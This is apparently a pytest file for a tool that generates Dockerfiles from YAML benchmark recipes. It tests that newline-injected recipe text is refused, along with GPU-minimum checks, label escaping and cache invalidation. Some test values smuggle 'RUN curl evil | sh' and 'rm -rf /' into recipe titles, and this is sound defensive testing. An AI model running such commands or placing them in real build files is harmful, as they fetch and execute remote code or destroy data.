"""Recipe text: no injection into Dockerfiles, scripts, labels; gpus min <= reference."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from tests.recipe_edits import edit as _edit

SEED = "maskrcnn/cuda10.1-cudnn7-ubi8-x86_64"
TITLE = "title: Mask R-CNN (object detection, heavy weight)"


@pytest.mark.parametrize(
    ("old", "new", "file"),
    [
        (TITLE, 'title: "Mask\\nRUN curl evil | sh"', "benchmarks/maskrcnn.yaml"),
        (TITLE, 'title: "Mask\\u2028R-CNN"', "benchmarks/maskrcnn.yaml"),
        (TITLE, 'title: "Mask\\x1b[2JR-CNN"', "benchmarks/maskrcnn.yaml"),
        ("title: Red Hat Universal Base Image 8", 'title: "UBI 8\\nrm -rf /"', "bases.yaml"),
    ],
    ids=["newline-title", "u2028-title", "escape-title", "newline-base-title"],
)
def test_control_characters_in_recipe_text_are_refused(  # type: ignore[no-untyped-def]
    cli, recipes_copy: Path, tmp_path: Path, old: str, new: str, file: str
) -> None:
    _edit(recipes_copy / file, old, new)
    out = tmp_path / "out"
    result = cli("--recipes", str(recipes_copy), "gen", "maskrcnn", "--cuda", "10.1", "-o", str(out))
    assert result.code == 2, result.err
    assert re.search(rf"recipes/{re.escape(file)}:\d+: .*U\+[0-9A-F]{{4}} is not allowed", result.err), (
        result.err
    )
    assert not out.exists()


def test_a_note_with_a_newline_is_refused(recipes_copy: Path) -> None:
    from mlcc.errors import RecipeError
    from mlcc.kb import load

    path = recipes_copy / "benchmarks" / "maskrcnn.yaml"
    text, count = re.subn(
        r"^note: >-\n(?:  .*\n)+", lambda _: 'note: "fine\\nRUN id"\n', path.read_text(), flags=re.M
    )
    assert count == 1
    path.write_text(text)
    with pytest.raises(RecipeError, match="U\\+000A is not allowed"):
        load(str(recipes_copy))


def test_gpus_min_above_reference_is_refused(cli, recipes_copy: Path) -> None:  # type: ignore[no-untyped-def]
    path = recipes_copy / "benchmarks" / "maskrcnn.yaml"
    text = path.read_text()
    gpus = re.search(r"gpus:\s*\{?\s*\n?\s*min: (\d+)", text)
    assert gpus is not None
    _edit(path, f"min: {gpus.group(1)}", "min: 1600")
    result = cli("--recipes", str(recipes_copy), "resolve", "maskrcnn")
    assert result.code == 2, result.err
    assert "min 1600 exceeds reference" in result.err and "benchmarks/maskrcnn.yaml:" in result.err


@pytest.mark.e2e
def test_dollar_in_a_label_value_is_not_expanded(cli, recipes_copy: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A real builder (buildah, FROM scratch: no network) reads the LABEL back as the recipe's text."""
    from dockerfile_parse import DockerfileParser

    _edit(recipes_copy / "benchmarks" / "maskrcnn.yaml", TITLE, "title: Mask R-CNN costs $HOME and ${PATH}")
    out = tmp_path / "out"
    result = cli("--recipes", str(recipes_copy), "gen", "maskrcnn", "--cuda", "10.1", "-o", str(out))
    assert result.code == 0, result.err
    dockerfile = (out / SEED / "Dockerfile").read_text()
    parser = DockerfileParser(fileobj=io.BytesIO(dockerfile.encode()))
    label = next(i["content"] for i in parser.structure if i["instruction"] == "LABEL")
    context = tmp_path / "ctx"
    context.mkdir()
    (context / "Dockerfile").write_text("FROM scratch\n" + label)
    tag = f"localhost/mlcc-label-test-{os.getpid()}"
    subprocess.run(
        ["buildah", "bud", "-q", "-t", tag, str(context)], check=True, capture_output=True, timeout=300
    )
    try:
        inspected = subprocess.run(
            ["buildah", "inspect", "--type", "image", tag], check=True, capture_output=True, text=True
        ).stdout
        labels = json.loads(inspected)["OCIv1"]["config"]["Labels"]
    finally:
        subprocess.run(["buildah", "rmi", tag], capture_output=True)
    described = labels["org.opencontainers.image.description"]
    assert described == "Mask R-CNN costs $HOME and ${PATH}"
    stack = json.loads((out / SEED / "stack.json").read_text())
    assert stack["benchmark"]["title"] == described


def test_the_recipe_cache_sees_an_edit_that_keeps_size_and_mtime(recipes_copy: Path) -> None:
    from mlcc.kb import load

    path = recipes_copy / "benchmarks" / "maskrcnn.yaml"
    assert (
        load(str(recipes_copy)).benchmarks["maskrcnn"].title == "Mask R-CNN (object detection, heavy weight)"
    )
    before = path.stat()
    _edit(path, TITLE, "title: Mask R-CNN (object detection, heavy weighT)")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert path.stat().st_size == before.st_size and path.stat().st_mtime_ns == before.st_mtime_ns
    assert load(str(recipes_copy)).benchmarks["maskrcnn"].title.endswith("weighT)")


def test_the_recipe_cache_key_follows_the_model_code(recipes_copy: Path, tmp_path: Path) -> None:
    """An editable install updated in place keeps version and recipes; the cached pickle of
    the old model layout must not be read back (a stale KnowledgeBase unpickles silently)."""
    from mlcc.kb import loader

    files = loader.recipe_files(str(recipes_copy))
    code = tmp_path / "kbcode"
    code.mkdir()
    (code / "model.py").write_text("A = 1\n")
    original = loader._KB_CODE
    try:
        loader._KB_CODE = str(code)
        first = loader._stat_key(str(recipes_copy), files)
        (code / "model.py").write_text("A = 22\n")
        assert loader._stat_key(str(recipes_copy), files) != first
    finally:
        loader._KB_CODE = original
